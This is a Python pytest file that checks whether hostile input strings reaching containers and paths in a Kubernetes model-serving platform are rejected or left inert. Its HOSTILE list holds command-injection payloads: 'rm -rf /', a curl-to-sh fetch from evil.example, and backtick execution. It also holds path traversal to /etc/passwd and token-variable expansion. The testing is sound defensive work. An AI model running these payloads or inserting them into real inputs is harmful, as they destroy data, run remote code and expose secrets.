"""Hostile strings in every user field that reaches a container or a path.

Each (field, hostile value) pair is either rejected before any function sees it — by the
XRD's schema and CEL rules (`validate_xr`), or by the API server's object-name rules for
`metadata.name`/`namespace` — or run through the real function and shown to be inert:

- it reaches a container only as one whole argv element (`VALUE` or `--flag=VALUE`) or one
  whole env value, never inside a `sh -c` script or glued to other text;
- every name composed for a workload cluster is a DNS-1123 label of at most 63 characters;
- every path a container sees stays under /mnt/models.

The figures (tried / rejected / inert) are printed by `-s` and recorded in docs/reliability.md.
"""

import copy
import posixpath
import re
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from compose_inference_cluster.fn import run_function as cluster_fn
from compose_model_cache.fn import CLUSTERS as CACHE_CLUSTERS
from compose_model_cache.fn import run_function as cache_fn
from compose_model_deployment.fn import CACHE as DEPLOYMENT_CACHE
from compose_model_deployment.fn import CLUSTERS as DEPLOYMENT_CLUSTERS
from compose_model_deployment.fn import REPLICAS as DEPLOYMENT_REPLICAS
from compose_model_deployment.fn import run_function as deployment_fn
from compose_model_replica.core import WORKLOAD
from compose_model_replica.fn import CACHE as REPLICA_CACHE
from compose_model_replica.fn import CLUSTER as REPLICA_CLUSTER
from compose_model_replica.fn import run_function as replica_fn
from crossplane.function.proto.v1 import run_function_pb2 as fnv1
from modelfleet_contracts.edge.runner import SafeRunner
from modelfleet_contracts.mounts import MODEL_MOUNT_PATH
from modelfleet_devtools.fuzz import crashed
from modelfleet_devtools.requests import desired_resources, desired_status, run_function_request
from modelfleet_devtools.validation import validate_xr
from modelfleet_devtools.world import H100, inference_cluster

HOSTILE = {
    "semicolon": "x; rm -rf /",
    "command substitution": "$(curl -s evil.example | sh)",
    "backticks": "`id`",
    "newline": "main\nrm -rf /",
    "flag": "--help",
    "flag with value": "--output=/etc/passwd",
    "path traversal": "../../etc/passwd",
    "very long": "a" * 5000,
    "unicode look-alike": "qwen\u2215qwen-\u0430dmin",  # division slash, Cyrillic a
    "NUL": "model\x00.bin",
    "glob": "*",
    "kubernetes variable": "$(HF_TOKEN)",
}

DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
DNS_SUBDOMAIN = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$")
# `--flag=VALUE`: a fixed flag the function chose, then the user's value, whole.
FIXED_FLAG = re.compile(r"^--[a-z][a-z-]*=")
SHELLS = {"sh", "/bin/sh", "bash", "/bin/bash"}

# -- the four functions, each with the world it needs ------------------------------------

RUNNERS = {
    "compose-inference-cluster": SafeRunner(cluster_fn, "compose-inference-cluster"),
    "compose-model-cache": SafeRunner(cache_fn, "compose-model-cache"),
    "compose-model-deployment": SafeRunner(deployment_fn, "compose-model-deployment"),
    "compose-model-replica": SafeRunner(replica_fn, "compose-model-replica"),
}


def _xr(kind: str, spec: dict[str, Any], namespaced: bool = True) -> dict[str, Any]:
    metadata = {"name": "kimi-k2", "namespace": "ml-team"} if namespaced else {"name": "gke-us"}
    return {
        "apiVersion": "modelfleet.io/v1alpha1",
        "kind": kind,
        "metadata": metadata,
        "spec": spec,
    }


CLUSTER_XR = _xr(
    "InferenceCluster",
    {
        "connection": {
            "kubeconfigSecretRef": {"namespace": "crossplane-system", "name": "kc", "key": "k"}
        },
        "workloadNamespace": "modelfleet",
        "storage": {
            "managed": {"provisioner": "NFS", "nfs": {"server": "10.0.0.2", "share": "/x"}}
        },
        "nodePools": [{k: v for k, v in H100.items()}],
    },
    namespaced=False,
)
HF_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "HuggingFace",
        "huggingFace": {
            "repo": "Qwen/Qwen3-0.6B",
            "revision": "main",
            "include": ["*.safetensors"],
            "exclude": ["original/*"],
            "tokenSecretRef": {"name": "hf", "key": "HF_TOKEN"},
        },
        "sizeGiB": 10,
        "storage": {"storageClassName": "fast-rwx"},
        "hydration": {"image": "ghcr.io/modelfleet/model-hydrator:0.1.0"},
    },
)
S3_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "S3",
        "s3": {
            "uri": "s3://bucket/prefix/",
            "endpoint": "https://minio.example:9000",
            "region": "us-east-1",
            "credentialsSecretRef": {"name": "s3-creds"},
        },
        "sizeGiB": 10,
    },
)
BYO_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "HuggingFace",
        "huggingFace": {"repo": "Qwen/Qwen3-0.6B"},
        "storage": {"existingClaimName": "shared-models"},
    },
)
ENGINE = {
    "framework": "Custom",
    "image": "vllm/vllm-openai:v0.11.0",
    "command": ["python3", "-m", "server"],
    "args": ["--port=8000"],
    "env": [{"name": "MODEL_FLAG", "value": "on"}],
    "port": 8000,
    "worker": {"command": ["python3", "-m", "worker"], "args": ["--rank=1"]},
}
DEPLOYMENT_XR = _xr(
    "ModelDeployment",
    {"replicas": 1, "modelCacheRef": {"name": "kimi-k2"}, "engine": copy.deepcopy(ENGINE)},
)


def _replica_xr(nodes: int, framework: str) -> dict[str, Any]:
    engine = copy.deepcopy(ENGINE)
    if framework == "vLLM":
        engine = {"framework": "vLLM", "image": ENGINE["image"], "args": ["--max-model-len=8192"]}
        engine["env"] = copy.deepcopy(ENGINE["env"])
    return _xr(
        "ModelReplica",
        {
            "clusterName": "gke-us",
            "replicas": 1,
            "nodes": nodes,
            "gpusPerNode": 8,
            "nodePool": "h100",
            "nodeSelector": dict(H100["nodeSelector"]),
            "tolerations": copy.deepcopy(H100["tolerations"]),
            "modelCacheRef": {"name": "kimi-k2"},
            "engine": engine,
        },
    )


def _ready_cache(path: str = "abc123def456") -> dict[str, Any]:
    row = {
        "name": "gke-us",
        "phase": "Ready",
        "claimName": "modelcache-ml-team-kimi-k2-1a2b3",
        "path": path,
        "fingerprint": "abc123def456",
    }
    cache = copy.deepcopy(HF_CACHE_XR)
    cache["status"] = {"clusters": [row], "summary": {"ready": "1/1"}}
    return cache


def _required(function: str, cache_path: str | None = None) -> dict[str, list[dict[str, Any]]]:
    cluster = inference_cluster("gke-us")
    return {
        "compose-inference-cluster": {},
        "compose-model-cache": {CACHE_CLUSTERS: [cluster]},
        "compose-model-deployment": {
            DEPLOYMENT_CLUSTERS: [cluster],
            DEPLOYMENT_REPLICAS: [],
            DEPLOYMENT_CACHE: [_ready_cache()],
        },
        "compose-model-replica": {
            REPLICA_CLUSTER: [cluster],
            REPLICA_CACHE: [_ready_cache(cache_path or "abc123def456")],
        },
    }[function]


# -- every user string that reaches a container or a path --------------------------------

Setter = Callable[[dict[str, Any], str], None]
IC, MC, MD, MR = (
    "compose-inference-cluster",
    "compose-model-cache",
    "compose-model-deployment",
    "compose-model-replica",
)
POOL_LABEL = "cloud.google.com/gke-nodepool"
REPLICA_CUSTOM, REPLICA_VLLM = _replica_xr(1, "Custom"), _replica_xr(1, "vLLM")
GANG_CUSTOM, GANG_VLLM = _replica_xr(2, "Custom"), _replica_xr(2, "vLLM")


def at(path: str, *tail: str) -> Setter:
    """Set the value at a dotted path (numbers index lists); `tail` holds keys with dots."""
    steps: list[Any] = [int(p) if p.isdigit() else p for p in path.split(".")] + list(tail)

    def put(xr: dict[str, Any], value: str) -> None:
        node = xr
        for step in steps[:-1]:
            node = node[step]
        node[steps[-1]] = value

    return put


# (field as a user writes it, function, base XR, where the value goes)
TARGETS: list[tuple[str, str, dict[str, Any], Setter]] = [
    ("huggingFace.repo", MC, HF_CACHE_XR, at("spec.huggingFace.repo")),
    ("huggingFace.revision", MC, HF_CACHE_XR, at("spec.huggingFace.revision")),
    ("huggingFace.include[]", MC, HF_CACHE_XR, at("spec.huggingFace.include.0")),
    ("huggingFace.exclude[]", MC, HF_CACHE_XR, at("spec.huggingFace.exclude.0")),
    ("tokenSecretRef.name", MC, HF_CACHE_XR, at("spec.huggingFace.tokenSecretRef.name")),
    ("tokenSecretRef.key", MC, HF_CACHE_XR, at("spec.huggingFace.tokenSecretRef.key")),
    ("s3.uri", MC, S3_CACHE_XR, at("spec.s3.uri")),
    ("s3.endpoint", MC, S3_CACHE_XR, at("spec.s3.endpoint")),
    ("s3.region", MC, S3_CACHE_XR, at("spec.s3.region")),
    ("s3.credentialsSecretRef.name", MC, S3_CACHE_XR, at("spec.s3.credentialsSecretRef.name")),
    ("storage.storageClassName", MC, HF_CACHE_XR, at("spec.storage.storageClassName")),
    ("storage.existingClaimName", MC, BYO_CACHE_XR, at("spec.storage.existingClaimName")),
    ("hydration.image", MC, HF_CACHE_XR, at("spec.hydration.image")),
    ("ModelCache metadata.name", MC, HF_CACHE_XR, at("metadata.name")),
    ("ModelCache metadata.namespace", MC, HF_CACHE_XR, at("metadata.namespace")),
    ("ModelCache name (shared claim)", MC, BYO_CACHE_XR, at("metadata.name")),
    ("engine.image", MR, REPLICA_CUSTOM, at("spec.engine.image")),
    ("engine.command[]", MR, REPLICA_CUSTOM, at("spec.engine.command.2")),
    ("engine.args[] (Custom)", MR, REPLICA_CUSTOM, at("spec.engine.args.0")),
    ("engine.args[] (vLLM)", MR, REPLICA_VLLM, at("spec.engine.args.0")),
    ("engine.args[] (vLLM gang leader)", MR, GANG_VLLM, at("spec.engine.args.0")),
    ("engine.worker.args[]", MR, GANG_CUSTOM, at("spec.engine.worker.args.0")),
    ("engine.env[].name", MR, REPLICA_CUSTOM, at("spec.engine.env.0.name")),
    ("engine.env[].value", MR, GANG_VLLM, at("spec.engine.env.0.value")),
    ("engine.port", MR, REPLICA_VLLM, at("spec.engine.port")),
    ("ModelReplica nodePool", MR, GANG_VLLM, at("spec.nodePool")),
    (
        "ModelReplica nodeSelector value",
        MR,
        REPLICA_VLLM,
        at("spec.nodeSelector", "cloud.google.com/gke-nodepool"),
    ),
    ("ModelReplica metadata.name", MR, GANG_VLLM, at("metadata.name")),
    ("ModelReplica metadata.namespace", MR, REPLICA_VLLM, at("metadata.namespace")),
    ("ModelDeployment engine.args[]", MD, DEPLOYMENT_XR, at("spec.engine.args.0")),
    ("ModelDeployment modelCacheRef.name", MD, DEPLOYMENT_XR, at("spec.modelCacheRef.name")),
    ("ModelDeployment metadata.name", MD, DEPLOYMENT_XR, at("metadata.name")),
    ("ModelDeployment metadata.namespace", MD, DEPLOYMENT_XR, at("metadata.namespace")),
    ("InferenceCluster metadata.name", IC, CLUSTER_XR, at("metadata.name")),
    ("workloadNamespace", IC, CLUSTER_XR, at("spec.workloadNamespace")),
    ("nodePools[].name", IC, CLUSTER_XR, at("spec.nodePools.0.name")),
    ("kubeconfigSecretRef.name", IC, CLUSTER_XR, at("spec.connection.kubeconfigSecretRef.name")),
    ("kubeconfigSecretRef.key", IC, CLUSTER_XR, at("spec.connection.kubeconfigSecretRef.key")),
    ("storage.managed.nfs.server", IC, CLUSTER_XR, at("spec.storage.managed.nfs.server")),
    ("storage.managed.nfs.share", IC, CLUSTER_XR, at("spec.storage.managed.nfs.share")),
]

TALLY: Counter[str] = Counter()

# -- what "inert" means -------------------------------------------------------------------


def _admitted_names(xr: dict[str, Any]) -> list[str]:
    """The API server's own name rules for the XR (the XRD cannot express them)."""
    metadata = xr["metadata"]
    problems = []
    name = metadata.get("name", "")
    if not (DNS_SUBDOMAIN.match(name) and len(name) <= 253):
        problems.append(f"metadata.name {name!r} is not a DNS-1123 subdomain")
    namespace = metadata.get("namespace")
    if namespace is not None and not (DNS_LABEL.match(namespace) and len(namespace) <= 63):
        problems.append(f"metadata.namespace {namespace!r} is not a DNS-1123 label")
    return problems


def _containers(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        for key in ("containers", "initContainers"):
            for c in node.get(key) or []:
                if isinstance(c, dict):
                    yield c
        for value in node.values():
            yield from _containers(value)
    elif isinstance(node, list):
        for value in node:
            yield from _containers(value)


def _remote_manifests(rsp: fnv1.RunFunctionResponse) -> Iterator[tuple[str, dict[str, Any], bool]]:
    """(key, manifest, created) of every composed object; Objects give their remote manifest."""
    for key, obj in desired_resources(rsp).items():
        spec = obj.get("spec") or {}
        inner = (spec.get("forProvider") or {}).get("manifest")
        if obj.get("kind") == "Object" and isinstance(inner, dict):
            yield key, inner, spec.get("managementPolicies") != ["Observe"]
        else:
            yield key, obj, True


def _container_strings(rsp: fnv1.RunFunctionResponse) -> set[str]:
    """Every argv element and env name/value composed, to tell the function's own text
    (e.g. a default `--exclude=original/*`) from what a hostile value brought in."""
    found: set[str] = set()
    for _, manifest, _ in _remote_manifests(rsp):
        for c in _containers(manifest.get("spec")):
            found.update(str(a) for a in (c.get("command") or []) + (c.get("args") or []))
            for env in c.get("env") or []:
                found.update(str(env.get(part, "")) for part in ("name", "value"))
    return found


def _argv_violations(container: dict[str, Any], value: str, baseline: set[str]) -> list[str]:
    problems = []
    command = [str(a) for a in container.get("command") or []]
    argv = command + [str(a) for a in container.get("args") or []]
    shell_script = None
    if command and command[0] in SHELLS and "-c" in command[:-1]:
        shell_script = command[command.index("-c") + 1]
    for element in argv:
        if value not in element or element is shell_script or element in baseline:
            continue
        flag = FIXED_FLAG.match(element)
        if element == value or (flag and element[flag.end() :] == value):
            continue
        problems.append(f"argv element {element[:80]!r} embeds the value")
    if shell_script is not None and value in shell_script:
        problems.append(f"the value is inside the shell script {shell_script[:80]!r}")
    for env in container.get("env") or []:
        for part in ("name", "value"):
            text = str(env.get(part, ""))
            if value in text and text != value and text not in baseline:
                problems.append(f"env {part} {text[:80]!r} embeds the value")
    return problems


def _path_violations(container: dict[str, Any]) -> list[str]:
    problems = []
    paths = [m.get("mountPath", "") for m in container.get("volumeMounts") or []]
    paths += [m.get("subPath", "") for m in container.get("volumeMounts") or [] if m.get("subPath")]
    argv = [str(a) for a in (container.get("command") or []) + (container.get("args") or [])]
    paths += [a.split("=", 1)[1] for a in argv if a.startswith(("--model=", "--cache-dir="))]
    for path in paths:
        if path.startswith("/") and path.startswith(MODEL_MOUNT_PATH):
            if not posixpath.normpath(path).startswith(MODEL_MOUNT_PATH):
                problems.append(f"path {path!r} escapes {MODEL_MOUNT_PATH}")
        elif ".." in path.split("/"):
            problems.append(f"path {path!r} climbs out of its volume")
    return problems


def inert_problems(
    rsp: fnv1.RunFunctionResponse, value: str, baseline: set[str] = frozenset()
) -> list[str]:
    problems: list[str] = []
    for key, manifest, created in _remote_manifests(rsp):
        name = str((manifest.get("metadata") or {}).get("name", ""))
        if created and name and not (DNS_LABEL.match(name) and len(name) <= 63):
            problems.append(f"{key}: composed name {name!r} is not a DNS-1123 label <= 63")
        for container in _containers(manifest.get("spec")):
            problems += [f"{key}: {p}" for p in _argv_violations(container, value, baseline)]
            problems += [f"{key}: {p}" for p in _path_violations(container)]
    for row in desired_status(rsp).get("clusters") or []:
        if ".." in str(row.get("path", "")).split("/"):
            problems.append(f"status path {row['path']!r} climbs out of the claim")
    return problems


CASES = [
    pytest.param(field, function, base, put, hostile, id=f"{field} <- {label}")
    for field, function, base, put in TARGETS
    for label, hostile in HOSTILE.items()
]


_BASELINES: dict[int, set[str]] = {}


def baseline(function: str, base: dict[str, Any]) -> set[str]:
    """What `function` puts in containers for the unmodified `base` (which must be valid)."""
    if id(base) not in _BASELINES:
        assert not validate_xr(base), f"the base {base['kind']} must be valid"
        rsp = RUNNERS[function].run(run_function_request(base, required=_required(function)))
        assert not crashed(rsp) and desired_resources(rsp)
        _BASELINES[id(base)] = _container_strings(rsp)
    return _BASELINES[id(base)]


@pytest.mark.parametrize(("field", "function", "base", "put", "hostile"), CASES)
def test_hostile_value_is_rejected_or_inert(field, function, base, put, hostile):
    known = baseline(function, base)
    xr = copy.deepcopy(base)
    put(xr, hostile)
    TALLY["tried"] += 1
    rsp = RUNNERS[function].run(run_function_request(xr, required=_required(function)))
    assert not crashed(rsp), f"{function} crashed on {field}={hostile!r}"
    if validate_xr(xr):
        TALLY["rejected by the XRD"] += 1
        return
    if _admitted_names(xr):
        TALLY["rejected by the API server's name rules"] += 1
        return
    assert desired_resources(rsp), f"{function} composed nothing for an admissible {field}"
    assert inert_problems(rsp, hostile, known) == []
    TALLY["admitted and inert"] += 1


@pytest.mark.parametrize("label", list(HOSTILE))
def test_a_tampered_cache_path_never_points_a_replica_outside_the_mount(label):
    """The cache's status path is written by compose-model-cache, but anyone allowed to
    write that status could put anything there: the replica must not follow it out."""
    hostile = HOSTILE[label]
    xr = _replica_xr(1, "vLLM")
    TALLY["tried"] += 1
    rsp = RUNNERS["compose-model-replica"].run(
        run_function_request(xr, required=_required("compose-model-replica", hostile))
    )
    assert not crashed(rsp)
    assert inert_problems(rsp, hostile) == []
    if WORKLOAD in desired_resources(rsp):
        TALLY["admitted and inert"] += 1
    else:
        # Refused, and the user is told which path was refused.
        assert desired_status(rsp)["phase"] == "WaitingForCache"
        assert repr(hostile)[:40] in desired_status(rsp)["message"]
        TALLY["refused by the function with a message"] += 1


def test_zz_report_the_tally(capsys):
    """Prints the figures for docs/reliability.md (runs last in file order)."""
    with capsys.disabled():
        print(f"\nhostile inputs: {dict(TALLY)}")
    assert sum(v for k, v in TALLY.items() if k != "tried") == TALLY["tried"]


def test_the_inertness_check_catches_shell_text_bad_names_and_escaping_paths():
    """The check above can fail: a function that builds shell text, names an object badly
    or points outside the mount is caught."""
    value = HOSTILE["semicolon"]
    careless = fnv1.RunFunctionResponse()
    container = {
        "name": "c",
        "command": ["/bin/sh", "-c", f"download {value}"],
        "args": [f"--model={MODEL_MOUNT_PATH}/../../etc", f"prefix {value}"],
        "env": [{"name": "REPO", "value": f"x{value}"}],
    }
    manifest = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": "Hydrate_Model"},
        "spec": {"template": {"spec": {"containers": [container]}}},
    }
    careless.desired.resources["job"].resource.update(
        {"apiVersion": "kubernetes.m.crossplane.io/v1alpha1", "kind": "Object",
         "spec": {"forProvider": {"manifest": manifest}}}
    )  # fmt: skip
    problems = inert_problems(careless, value)
    assert any("shell script" in p for p in problems)
    assert any("argv element" in p for p in problems)
    assert any("env value" in p for p in problems)
    assert any("DNS-1123" in p for p in problems)
    assert any("escapes" in p for p in problems)
